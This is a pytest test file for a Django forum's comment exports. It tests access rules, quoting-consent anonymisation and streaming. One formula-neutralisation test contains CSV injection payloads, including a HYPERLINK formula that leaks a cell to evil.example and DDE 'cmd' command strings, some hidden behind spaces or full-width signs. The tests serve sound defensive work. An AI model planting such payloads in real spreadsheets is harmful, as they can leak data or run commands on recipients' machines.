"""Exports of a room's and a consultation's comments (CSV and JSON), and the
quoting consent they honour."""

import csv
import io
import json
import threading

import pytest
from django.conf import settings
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from accounts import services as account_services
from accounts.models import User
from forum import exports, services
from forum.models import Comment, Report
from tests import factories

pytestmark = pytest.mark.django_db

ROOM_EXPORTS = ["forum:room-export-csv", "forum:room-export-json"]
CONSULTATION_EXPORTS = ["forum:consultation-export-csv", "forum:consultation-export-json"]
ALL_EXPORTS = ROOM_EXPORTS + CONSULTATION_EXPORTS
BOM = "\ufeff".encode()


def export_url(name, room, *, audience=None):
    kwargs = {"consultation_slug": room.consultation.slug}
    if name in ROOM_EXPORTS:
        kwargs["room_slug"] = room.slug
    url = reverse(name, kwargs=kwargs)
    return f"{url}?for={audience}" if audience else url


def download(client, name, room, *, audience=None):
    response = client.get(export_url(name, room, audience=audience))
    assert response.status_code == 200
    return response, b"".join(response.streaming_content)


def csv_rows(client, room, *, name="forum:room-export-csv", audience=None):
    _, content = download(client, name, room, audience=audience)
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def json_rows(client, room, *, name="forum:room-export-json", audience=None):
    _, content = download(client, name, room, audience=audience)
    return json.loads(content.decode())


def by_id(rows):
    return {int(row["id"]): row for row in rows}


def signed_in(client, user):
    client.force_login(user)
    return client


# --- Who may export ---------------------------------------------------------


@pytest.mark.parametrize("name", ALL_EXPORTS)
def test_anonymous_visitors_are_asked_to_log_in(client, room, name):
    response = client.get(export_url(name, room))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


@pytest.mark.parametrize("name", ALL_EXPORTS)
def test_participants_cannot_export(client, room, participant, name):
    factories.make_comment(room, participant, body="My view on legal aid.")

    response = signed_in(client, participant).get(export_url(name, room))

    assert response.status_code == 403
    assert b"legal aid" not in response.content


@pytest.mark.parametrize("name", ALL_EXPORTS)
def test_the_rooms_moderator_exports_the_room_and_its_consultation(client, room, moderator, name):
    response = signed_in(client, moderator).get(export_url(name, room))

    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)


@pytest.mark.parametrize("name", ALL_EXPORTS)
def test_staff_export_any_room_and_consultation(client, room, staff, name):
    response = signed_in(client, staff).get(export_url(name, room))

    assert response.status_code == 200


@pytest.mark.parametrize(
    ("name", "status"), [(name, 403) for name in ROOM_EXPORTS] + [(name, 200) for name in CONSULTATION_EXPORTS]
)
def test_a_moderator_of_another_room_exports_the_consultation_but_not_this_room(
    client, room, consultation, name, status
):
    other_room = factories.make_room(consultation)
    colleague = factories.make_user("Omar Colleague")
    factories.assign_moderator(other_room, colleague)

    response = signed_in(client, colleague).get(export_url(name, room))

    assert response.status_code == status


@pytest.mark.parametrize("name", ALL_EXPORTS)
def test_a_moderator_in_another_consultation_cannot_export_this_one(client, room, name):
    elsewhere = factories.make_room()
    outsider = factories.make_user("Olga Outsider")
    factories.assign_moderator(elsewhere, outsider)

    response = signed_in(client, outsider).get(export_url(name, room))

    assert response.status_code == 403


@pytest.mark.parametrize("name", ALL_EXPORTS)
def test_a_moderator_whose_rota_week_is_over_cannot_export(client, room, name):
    former = factories.make_user("Fatima Former")
    factories.assign_moderator(room, former, starts_in_days=-14, ends_in_days=-7)

    response = signed_in(client, former).get(export_url(name, room))

    assert response.status_code == 403


@pytest.mark.parametrize("name", ROOM_EXPORTS)
def test_an_unpublished_room_is_not_found_for_its_moderator_but_staff_export_it(client, room, moderator, staff, name):
    room.is_published = False
    room.save()

    assert signed_in(client, moderator).get(export_url(name, room)).status_code == 404
    assert signed_in(client, staff).get(export_url(name, room)).status_code == 200


@pytest.mark.parametrize("name", CONSULTATION_EXPORTS)
def test_an_unpublished_consultation_is_not_found_for_moderators_but_staff_export_it(
    client, room, consultation, moderator, staff, name
):
    consultation.is_published = False
    consultation.save()

    assert signed_in(client, moderator).get(export_url(name, room)).status_code == 404
    assert signed_in(client, staff).get(export_url(name, room)).status_code == 200


def test_a_consultation_export_leaves_out_unpublished_rooms_except_for_staff(
    client, room, consultation, moderator, staff, participant
):
    draft = factories.make_room(consultation, title="Draft room", is_published=False)
    factories.make_comment(room, participant, body="In the open room.")
    in_draft = factories.make_comment(draft, staff, body="Trying the draft room.")

    for_moderator = csv_rows(signed_in(client, moderator), room, name="forum:consultation-export-csv")
    for_staff = csv_rows(signed_in(client, staff), room, name="forum:consultation-export-csv")

    assert [row["room"] for row in for_moderator] == [room.slug]
    assert int(for_staff[-1]["id"]) == in_draft.pk
    assert for_staff[-1]["room"] == draft.slug


@pytest.mark.parametrize("name", ALL_EXPORTS)
def test_only_staff_may_ask_for_the_moderation_export(client, room, moderator, name):
    response = signed_in(client, moderator).get(export_url(name, room, audience="moderation"))

    assert response.status_code == 403


@pytest.mark.parametrize("name", ALL_EXPORTS)
def test_the_moderation_export_says_so_in_its_file_name(client, room, staff, name):
    report = signed_in(client, staff).get(export_url(name, room))
    moderation = client.get(export_url(name, room, audience="moderation"))

    assert "moderation-all-content" not in report["Content-Disposition"]
    assert "moderation-all-content" in moderation["Content-Disposition"]


@pytest.mark.parametrize("name", ALL_EXPORTS)
def test_exports_accept_only_reading(client, room, staff, name):
    response = signed_in(client, staff).post(export_url(name, room))

    assert response.status_code == 405


# --- The files ----------------------------------------------------------------


def test_the_csv_is_an_attachment_named_after_the_room_with_a_byte_order_mark_and_every_column(client, room, moderator):
    response, content = download(signed_in(client, moderator), "forum:room-export-csv", room)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"{room.consultation.slug}-{room.slug}-" in disposition
    assert disposition.endswith('.csv"')
    assert "no-store" in response["Cache-Control"]
    assert content.startswith(BOM)
    header = next(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert header == list(exports.COLUMNS)


def test_the_json_is_an_array_of_rows_with_every_column(client, room, moderator, participant):
    factories.make_comment(room, participant, body="First point.")
    factories.make_comment(room, participant, body="Second point.")

    response, content = download(signed_in(client, moderator), "forum:consultation-export-json", room)

    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert f'filename="{room.consultation.slug}-' in response["Content-Disposition"]
    assert response["Content-Disposition"].endswith('.json"')
    rows = json.loads(content)
    assert [row["body_source"] for row in rows] == ["First point.", "Second point."]
    assert all(list(row) == list(exports.COLUMNS) for row in rows)


def test_an_empty_room_exports_a_header_or_an_empty_array(client, room, moderator):
    signed_in(client, moderator)

    assert csv_rows(client, room) == []
    assert json_rows(client, room) == []


def test_accented_text_survives_the_csv_round_trip(client, room, moderator):
    author = factories.make_user("Álvaro Núñez", organisation="Fundación Jurídica")
    factories.make_comment(room, author, body="Très bien : l’accès à la justice, ça compte — 司法")

    [row] = csv_rows(signed_in(client, moderator), room)

    assert row["author_name"] == "Álvaro Núñez"
    assert row["author_organisation"] == "Fundación Jurídica"
    assert row["body_source"] == "Très bien : l’accès à la justice, ça compte — 司法"
    assert row["body_text"] == "Très bien : l’accès à la justice, ça compte — 司法"


def test_a_row_describes_the_comment_its_thread_and_its_author(
    client, room, moderator, participant, other_participant, settings
):
    settings.SITE_URL = "https://consult.example.org"
    participant.country = "KE"
    participant.speaks_for_organisation = True
    participant.save()
    question = factories.make_question(room, "What should the programme fund?")
    cited = factories.make_comment(room, moderator, body="Welcome, everyone.")
    root = factories.make_comment(room, participant, body="Fund legal aid clinics.")
    reply = factories.make_reply(
        root,
        other_participant,
        body=f"Agree with @{participant.handle}, see http://127.0.0.1:8000/comment/{cited.pk}/\n\nSecond paragraph.",
        language="en",
    )
    factories.make_reply(reply, participant, body="Thank you.")
    services.tag_comment(moderator, comment=reply, question=question)
    services.highlight_comment(moderator, comment=reply)
    services.report_comment(participant, comment=reply, reason=Report.Reason.OFF_TOPIC)

    rows = by_id(json_rows(signed_in(client, moderator), room))

    row = rows[reply.pk]
    assert row["permalink"] == f"https://consult.example.org/comment/{reply.pk}/"
    assert (row["consultation"], row["room"]) == (room.consultation.slug, room.slug)
    assert (row["thread_id"], row["parent_id"], row["depth"]) == (root.pk, root.pk, 1)
    assert row["created"].endswith("+00:00")
    assert row["edited"] == ""
    assert (row["author_name"], row["author_handle"]) == ("Jean Dupont", other_participant.handle)
    assert row["author_moderates_room"] is False
    assert row["guiding_question"] == "What should the programme fund?"
    assert row["language"] == "en"
    assert row["state"] == "visible"
    assert row["body_text"].startswith("Agree with @Amina Diallo, see Comment by Maria Moderator")
    assert row["body_text"].endswith("\n\nSecond paragraph.")
    assert row["mentioned_handles"] == [participant.handle]
    assert row["cited_comment_ids"] == [cited.pk]
    assert (row["reply_count"], row["report_count"], row["highlighted"]) == (1, 1, True)
    assert rows[root.pk]["author_organisation"] == "Legal Aid Network"
    assert rows[root.pk]["author_country"] == "KE"
    assert rows[root.pk]["author_is_organisation"] is True
    assert (rows[root.pk]["thread_id"], rows[root.pk]["parent_id"], rows[root.pk]["reply_count"]) == (root.pk, None, 2)
    assert rows[cited.pk]["author_moderates_room"] is True


def test_the_plain_text_keeps_paragraphs_line_breaks_and_list_items(client, room, moderator, participant):
    factories.make_comment(
        room, participant, body="Two needs:\n\n- **legal aid** & advice\n- courts nearby\n\nFirst line\nsecond line"
    )

    [row] = json_rows(signed_in(client, moderator), room)

    assert row["body_text"] == "Two needs:\n\n- legal aid & advice\n- courts nearby\n\nFirst line\nsecond line"


def test_the_csv_writes_lists_as_words_and_flags_as_true_or_false(client, room, moderator, participant):
    cited = factories.make_comment(room, moderator, body="Welcome.")
    comment = factories.make_comment(
        room, participant, body=f"@{moderator.handle} see http://127.0.0.1:8000/comment/{cited.pk}/"
    )

    row = by_id(csv_rows(signed_in(client, moderator), room))[comment.pk]

    assert row["mentioned_handles"] == moderator.handle
    assert row["cited_comment_ids"] == str(cited.pk)
    assert (row["highlighted"], row["author_moderates_room"]) == ("false", "false")
    assert row["parent_id"] == ""


@pytest.mark.parametrize(
    "body",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-1+2",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ],
)
def test_a_comment_that_looks_like_a_formula_is_neutralised_in_csv_but_kept_in_json(
    client, room, moderator, participant, body
):
    comment = factories.make_comment(room, participant, body=body)
    signed_in(client, moderator)

    csv_row = by_id(csv_rows(client, room))[comment.pk]
    json_row = by_id(json_rows(client, room))[comment.pk]

    assert csv_row["body_source"] == "'" + body
    assert csv_row["body_text"].startswith("'" + body[0])
    assert json_row["body_source"] == body


def test_an_author_name_that_looks_like_a_formula_is_neutralised_in_csv(client, room, moderator):
    author = factories.make_user("=1+1 Mallory")
    factories.make_comment(room, author, body="Hello.")

    [row] = csv_rows(signed_in(client, moderator), room)

    assert row["author_name"] == "'=1+1 Mallory"


def test_tabs_and_carriage_returns_at_the_start_of_a_cell_are_neutralised_too():
    assert exports.neutralise_formula("\t=1+1") == "'\t=1+1"
    assert exports.neutralise_formula("\r=1+1") == "'\r=1+1"
    assert exports.neutralise_formula("Legal aid = justice") == "Legal aid = justice"


@pytest.mark.parametrize(
    "cell",
    [
        " =1+1",
        "  +SUM(A1)",
        "\u00a0-2+3",
        "\u3000@SUM(A1)",
        '\uff1dHYPERLINK("http://evil.example")',
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
        "|cmd",
        " |cmd",
    ],
    ids=[
        "space",
        "spaces-plus",
        "nbsp-minus",
        "ideographic-space-at",
        "full-width-equals",
        "full-width-plus",
        "full-width-minus",
        "full-width-at",
        "pipe",
        "space-pipe",
    ],
)
def test_formulas_hidden_behind_spaces_full_width_signs_or_a_pipe_are_neutralised(cell):
    assert exports.neutralise_formula(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Legal aid = justice", "Ｌｅｇａｌ aid", "  Two spaces first", "100%"])
def test_ordinary_text_is_left_as_written(cell):
    assert exports.neutralise_formula(cell) == cell


# --- Quoting consent ------------------------------------------------------------


def test_the_profile_form_saves_how_the_report_may_quote_me(client, participant):
    data = {
        "display_name": participant.display_name,
        "handle": participant.handle,
        "organisation": participant.organisation,
        "title": "",
        "country": "",
        "languages": "",
        "bio": "",
        "quoting_consent": "anonymous",
    }

    response = signed_in(client, participant).post(reverse("accounts:profile-edit"), data)

    assert response.status_code == 302
    participant.refresh_from_db()
    assert participant.quoting_consent == User.QuotingConsent.ANONYMOUSLY


def test_everyone_may_be_quoted_by_name_until_they_choose_otherwise(participant):
    assert participant.quoting_consent == User.QuotingConsent.BY_NAME


def test_rows_of_anonymous_authors_carry_no_name_handle_or_organisation(client, room, moderator, participant):
    participant.quoting_consent = User.QuotingConsent.ANONYMOUSLY
    participant.country = "SN"
    participant.save()
    comment = factories.make_comment(room, participant, body="Paralegals reach villages.")

    for row in (csv_rows(signed_in(client, moderator), room)[0], json_rows(client, room)[0]):
        assert int(row["id"]) == comment.pk
        assert (row["author_name"], row["author_handle"], row["author_organisation"]) == ("", "", "")
        assert row["author_country"] == "SN"
        assert row["body_source"] == "Paralegals reach villages."
    assert "Amina" not in json.dumps(json_rows(client, room))


def test_rows_of_authors_who_refused_quoting_keep_counts_but_no_text(
    client, room, moderator, participant, other_participant
):
    participant.quoting_consent = User.QuotingConsent.NOT_AT_ALL
    participant.save()
    comment = factories.make_comment(room, participant, body=f"Ask @{other_participant.handle} about it.")
    factories.make_reply(comment, other_participant, body="Happy to help.")
    services.report_comment(other_participant, comment=comment, reason=Report.Reason.SPAM)

    row = by_id(json_rows(signed_in(client, moderator), room))[comment.pk]

    assert (row["body_text"], row["body_source"], row["mentioned_handles"]) == ("", "", [])
    assert (row["author_name"], row["author_handle"], row["author_organisation"]) == ("", "", "")
    assert (row["reply_count"], row["report_count"]) == (1, 1)
    assert row["state"] == "visible"


def test_mentioned_handles_name_only_people_who_may_be_quoted_by_name(
    client, room, moderator, participant, other_participant
):
    other_participant.quoting_consent = User.QuotingConsent.ANONYMOUSLY
    other_participant.save()
    comment = factories.make_comment(
        room, moderator, body=f"Welcome @{participant.handle} and @{other_participant.handle}."
    )

    row = by_id(json_rows(signed_in(client, moderator), room))[comment.pk]

    assert row["mentioned_handles"] == [participant.handle]


def test_the_staff_moderation_export_shows_everyone_as_they_are(client, room, staff, participant, other_participant):
    participant.quoting_consent = User.QuotingConsent.NOT_AT_ALL
    participant.save()
    comment = factories.make_comment(room, participant, body=f"Ask @{other_participant.handle}.")
    other_participant.quoting_consent = User.QuotingConsent.ANONYMOUSLY
    other_participant.save()

    row = by_id(json_rows(signed_in(client, staff), room, audience="moderation"))[comment.pk]

    assert (row["author_name"], row["author_organisation"]) == ("Amina Diallo", "Legal Aid Network")
    assert row["body_source"] == f"Ask @{other_participant.handle}."
    assert row["mentioned_handles"] == [other_participant.handle]


def _consenting(user, consent):
    user.quoting_consent = consent
    user.save()
    return user


@pytest.mark.parametrize("link", ["{url}", "[this point]({url})"])
def test_a_citation_of_someone_who_refused_quoting_carries_neither_their_words_nor_their_name(
    client, room, moderator, participant, other_participant, link
):
    _consenting(participant, User.QuotingConsent.NOT_AT_ALL)
    cited = factories.make_comment(room, participant, body="Paralegals reach remote villages.")
    url = f"{settings.SITE_URL}/comment/{cited.pk}/"
    citing = factories.make_comment(room, other_participant, body=f"I agree with {link.format(url=url)}.")

    row = by_id(json_rows(signed_in(client, moderator), room))[citing.pk]

    assert f"Comment by a participant in {room.title}" in row["body_text"]
    assert "Paralegals" not in row["body_text"]
    assert "Amina" not in json.dumps(row)
    assert row["cited_comment_ids"] == [cited.pk]


def test_a_citation_of_someone_quoted_anonymously_carries_their_words_without_their_name(
    client, room, moderator, participant, other_participant
):
    _consenting(participant, User.QuotingConsent.ANONYMOUSLY)
    cited = factories.make_comment(room, participant, body="Paralegals reach remote villages.")
    citing = factories.make_comment(room, other_participant, body=f"See {settings.SITE_URL}/comment/{cited.pk}/")

    row = by_id(csv_rows(signed_in(client, moderator), room))[citing.pk]

    assert row["body_text"] == f"See Comment by a participant in {room.title} “Paralegals reach remote villages.”"


def test_a_citation_of_a_comment_that_cites_someone_who_refused_quoting_names_nobody_twice_away(
    client, room, moderator, participant, other_participant
):
    _consenting(participant, User.QuotingConsent.NOT_AT_ALL)
    refused = factories.make_comment(room, participant, body="Paralegals reach remote villages.")
    middle = factories.make_comment(
        room, other_participant, body=f"As said in {settings.SITE_URL}/comment/{refused.pk}/"
    )
    citing = factories.make_comment(room, moderator, body=f"See {settings.SITE_URL}/comment/{middle.pk}/")

    row = by_id(json_rows(signed_in(client, moderator), room))[citing.pk]

    assert f"Comment by Jean Dupont in {room.title}" in row["body_text"]
    assert "Amina" not in row["body_text"]
    assert "Paralegals" not in row["body_text"]


def test_a_mention_of_someone_who_may_not_be_quoted_by_name_is_not_named_in_the_text(
    client, room, moderator, participant, other_participant
):
    _consenting(other_participant, User.QuotingConsent.ANONYMOUSLY)
    comment = factories.make_comment(
        room, participant, body=f"Ask @{other_participant.handle} or @{moderator.handle} about it."
    )

    row = by_id(json_rows(signed_in(client, moderator), room))[comment.pk]

    assert row["body_text"] == "Ask [a participant] or @Maria Moderator about it."
    assert row["body_source"] == f"Ask [a participant] or @{moderator.handle} about it."


def test_the_moderation_export_shows_citations_as_they_are(client, room, staff, participant, other_participant):
    _consenting(participant, User.QuotingConsent.NOT_AT_ALL)
    cited = factories.make_comment(room, participant, body="Paralegals reach remote villages.")
    citing = factories.make_comment(room, other_participant, body=f"See {settings.SITE_URL}/comment/{cited.pk}/")

    row = by_id(json_rows(signed_in(client, staff), room, audience="moderation"))[citing.pk]

    assert "Comment by Amina Diallo" in row["body_text"]
    assert "Paralegals reach remote villages." in row["body_text"]


# --- Comments that are not public -------------------------------------------------


def test_hidden_and_deleted_comments_keep_their_row_but_not_their_text_for_the_report(
    client, room, moderator, participant
):
    hidden = factories.make_comment(room, participant, body="Buy cheap watches.")
    deleted = factories.make_comment(room, participant, body="I take this back.")
    services.hide_comment(moderator, comment=hidden, reason="Spam.")
    services.delete_comment(participant, comment=deleted)

    rows = by_id(csv_rows(signed_in(client, moderator), room))

    assert (rows[hidden.pk]["state"], rows[deleted.pk]["state"]) == ("hidden", "deleted")
    assert all(row["body_text"] == row["body_source"] == "" for row in rows.values())
    assert rows[hidden.pk]["author_name"] == "Amina Diallo"


def test_comments_awaiting_moderation_are_left_out_of_the_report(client, room, moderator, participant):
    room.premoderate_first = 1
    room.save()
    held = factories.make_comment(room, participant, body="My very first comment.")
    assert held.is_pending

    assert csv_rows(signed_in(client, moderator), room) == []
    assert json_rows(client, room, name="forum:consultation-export-json") == []


def test_the_moderation_export_holds_hidden_deleted_and_waiting_text(client, room, staff, moderator, participant):
    room.premoderate_first = 1
    room.save()
    held = factories.make_comment(room, participant, body="Waiting for approval.")
    hidden = factories.make_comment(room, moderator, body="Rude words.")
    deleted = factories.make_comment(room, moderator, body="Withdrawn.")
    services.hide_comment(staff, comment=hidden, reason="Rude.")
    services.delete_comment(moderator, comment=deleted)

    rows = by_id(csv_rows(signed_in(client, staff), room, audience="moderation"))

    assert {pk: (row["state"], row["body_source"]) for pk, row in rows.items()} == {
        held.pk: ("pending", "Waiting for approval."),
        hidden.pk: ("hidden", "Rude words."),
        deleted.pk: ("deleted", "Withdrawn."),
    }


# --- Streaming and queries -----------------------------------------------------------


def post_comments(room, count):
    """`count` comments: threads of a root and two replies, one nested."""
    authors = [factories.make_user() for _ in range(3)]
    made = 0
    while made < count:
        root = factories.make_comment(room, authors[0], body=f"Point {made}", language="en")
        made += 1
        if made < count:
            reply = factories.make_reply(root, authors[1], body=f"Reply {made}", language="en")
            made += 1
            if made < count:
                factories.make_reply(reply, authors[2], body=f"Nested {made}", language="en")
                made += 1


def comment_queries(queries):
    """The queries that read comments' text: only an export's chunks do."""
    return [query for query in queries.captured_queries if '"forum_comment"."body_html"' in query["sql"]]


def test_the_export_reads_comments_only_while_it_is_downloaded(client, room, moderator):
    post_comments(room, 5)
    signed_in(client, moderator)

    with CaptureQueriesContext(connection) as before_reading:
        response = client.get(export_url("forum:room-export-csv", room))
    with CaptureQueriesContext(connection) as while_reading:
        content = b"".join(response.streaming_content)

    assert isinstance(response, StreamingHttpResponse)
    assert comment_queries(before_reading) == []
    assert len(comment_queries(while_reading)) == 1
    assert content.count(b"\r\n") == 6


def test_rows_reads_one_chunk_at_a_time(room, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 4)
    post_comments(room, 10)  # threads of 3, 3, 3 and 1 comments: chunks of 3, 3 and 4
    export = exports.rows([room])

    with CaptureQueriesContext(connection) as first_row:
        next(export)
    with CaptureQueriesContext(connection) as rest_of_chunk:
        next(export)
        next(export)
    with CaptureQueriesContext(connection) as next_chunk:
        next(export)

    assert len(comment_queries(first_row)) == 1
    assert len(rest_of_chunk) == 0
    assert len(next_chunk) == exports.QUERIES_PER_CHUNK
    assert len(list(export)) == 6


@pytest.mark.parametrize("name", ["forum:room-export-csv", "forum:consultation-export-json"])
def test_queries_grow_with_chunks_not_with_rows(client, consultation, staff, monkeypatch, name):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 100)
    small_room = factories.make_room(consultation)
    large_room = factories.make_room(factories.make_consultation())
    post_comments(small_room, 30)
    post_comments(large_room, 250)
    signed_in(client, staff)

    counts = []
    for room in (small_room, large_room):
        with CaptureQueriesContext(connection) as queries:
            _, content = download(client, name, room)
        counts.append(len(queries))

    text = content.decode("utf-8-sig")
    rows = json.loads(text) if name.endswith("json") else list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 250
    # 30 comments fill one chunk; 250 fill three: two more chunks' worth of queries.
    assert counts[1] - counts[0] == 2 * exports.QUERIES_PER_CHUNK
    # Besides the chunks: the session, the user, the room (or consultation and its rooms), the rota
    # and the room's threads.
    assert counts[0] <= 6 + exports.QUERIES_PER_CHUNK


def test_a_consultation_export_goes_room_by_room_in_reading_order(client, consultation, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 2)
    first_room = factories.make_room(consultation, position=1)
    second_room = factories.make_room(consultation, position=2)
    author = factories.make_user()
    later_root = factories.make_comment(second_room, author, body="In the second room.")
    root = factories.make_comment(first_room, author, body="Root.")
    first_reply = factories.make_reply(root, author, body="First reply.")
    second_reply = factories.make_reply(root, author, body="Second reply.")
    nested = factories.make_reply(first_reply, author, body="Under the first reply.")
    staff = factories.make_user("Sam Staff", is_staff=True)

    rows = json_rows(signed_in(client, staff), first_room, name="forum:consultation-export-json")

    assert [row["id"] for row in rows] == [root.pk, first_reply.pk, nested.pk, second_reply.pk, later_root.pk]
    assert [row["thread_id"] for row in rows] == [root.pk] * 4 + [later_root.pk]
    assert [row["depth"] for row in rows] == [0, 1, 2, 1, 0]
    assert [row["room"] for row in rows] == [first_room.slug] * 4 + [second_room.slug]


@pytest.mark.postgresql
@pytest.mark.django_db(transaction=True)
def test_a_reply_posted_during_an_export_neither_repeats_nor_skips_rows(room, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 3)
    author = factories.make_user()
    root = factories.make_comment(room, author, body="Root.")
    first_reply = factories.make_reply(root, author, body="First reply.")
    factories.make_reply(root, author, body="Second reply.")
    factories.make_reply(root, author, body="Third reply.")
    factories.make_comment(room, author, body="Another thread.")
    before = list(Comment.objects.filter(room=room).order_by("tree_id", "lft").values_list("pk", flat=True))
    export = exports.rows([room])
    # The first thread is longer than a chunk, so it is read in slices by position.
    first_chunk = [next(export)["id"] for _ in range(3)]

    def reply_elsewhere():
        try:
            # Lands before the export's position in the thread, moving the rows after it.
            factories.make_reply(first_reply, author, body="Posted during the export.")
        finally:
            connection.close()

    writer = threading.Thread(target=reply_elsewhere)
    writer.start()
    writer.join(timeout=30)
    exported = first_chunk + [row["id"] for row in export]

    assert exported == before
    assert Comment.objects.filter(room=room).count() == 6


def test_the_export_tells_verified_organisations_from_self_declared_ones(client, room, moderator, staff):
    verified = factories.make_user("Legal Aid Network", organisation="Legal Aid Network", speaks_for_organisation=True)
    declared = factories.make_user("Rights Watch", organisation="Rights Watch", speaks_for_organisation=True)
    person = factories.make_user("Jean Dupont")
    account_services.verify_organisation(staff, person=verified, note="Listed in the national register.")
    comments = {author: factories.make_comment(room, author).pk for author in (verified, declared, person)}

    json_by_id = by_id(json_rows(signed_in(client, moderator), room))
    csv_by_id = by_id(csv_rows(client, room))

    assert [
        json_by_id[comments[author]]["author_organisation_verified"] for author in (verified, declared, person)
    ] == [
        True,
        False,
        False,
    ]
    assert [json_by_id[comments[author]]["author_is_organisation"] for author in (verified, declared, person)] == [
        True,
        True,
        False,
    ]
    assert csv_by_id[comments[verified]]["author_organisation_verified"] == "true"
    assert csv_by_id[comments[declared]]["author_organisation_verified"] == "false"
